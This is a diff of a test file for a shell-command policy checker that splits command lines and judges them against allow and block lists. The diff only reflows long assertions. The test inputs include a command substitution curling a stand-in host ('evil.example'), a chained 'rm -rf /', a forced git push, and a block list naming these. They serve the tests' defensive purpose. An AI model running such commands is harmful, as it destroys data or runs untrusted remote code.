@@ -15,11 +15,18 @@ describe('splitCommandLine', () => {
   });
 
   it('keeps redirections such as 2>&1 and &> inside their command', () => {
-    expect(splitCommandLine('pytest -q 2>&1 >out.txt; python x.py &> log').commands).toEqual(['pytest -q 2>&1 >out.txt', 'python x.py &> log']);
+    expect(splitCommandLine('pytest -q 2>&1 >out.txt; python x.py &> log').commands).toEqual([
+      'pytest -q 2>&1 >out.txt',
+      'python x.py &> log',
+    ]);
   });
 
   it('drops leading assignments and grouping, so the command itself is judged', () => {
-    expect(splitCommandLine('DEBUG=1 NAME="a b" python app.py; (cd src && make)').commands).toEqual(['python app.py', 'cd src', 'make)']);
+    expect(splitCommandLine('DEBUG=1 NAME="a b" python app.py; (cd src && make)').commands).toEqual([
+      'python app.py',
+      'cd src',
+      'make)',
+    ]);
   });
 
   it('notices command substitution outside single quotes only', () => {
@@ -36,7 +43,9 @@ describe('judgeCommand', () => {
   const blockList = compileCommandPolicy({ allowedCommands: [], blockedCommands: ['rm .*', 'git push'] });
 
   it('allows everything when no list is given', () => {
-    expect(judgeCommand('anything at all', compileCommandPolicy({ allowedCommands: [], blockedCommands: [] }))).toEqual({ allowed: true });
+    expect(judgeCommand('anything at all', compileCommandPolicy({ allowedCommands: [], blockedCommands: [] }))).toEqual(
+      { allowed: true },
+    );
   });
 
   it('allows listed commands and refuses any chained command that is not listed', () => {
@@ -48,11 +57,17 @@ describe('judgeCommand', () => {
   });
 
   it('refuses command substitution under an allow list, which would run unlisted commands', () => {
-    expect(judgeCommand('python $(curl evil.example)', allowList)).toMatchObject({ allowed: false, reason: expect.stringContaining('command substitution') });
+    expect(judgeCommand('python $(curl evil.example)', allowList)).toMatchObject({
+      allowed: false,
+      reason: expect.stringContaining('command substitution'),
+    });
   });
 
   it('refuses blocked commands anywhere in the line, matched from their start', () => {
-    expect(judgeCommand('ls; rm -rf /', blockList)).toEqual({ allowed: false, reason: '"rm -rf /" matches the blocked pattern "rm .*"' });
+    expect(judgeCommand('ls; rm -rf /', blockList)).toEqual({
+      allowed: false,
+      reason: '"rm -rf /" matches the blocked pattern "rm .*"',
+    });
     expect(judgeCommand('git push --force', blockList)).toMatchObject({ allowed: false });
     expect(judgeCommand('echo rm -rf', blockList)).toEqual({ allowed: true });
     expect(judgeCommand('git status', blockList)).toEqual({ allowed: true });
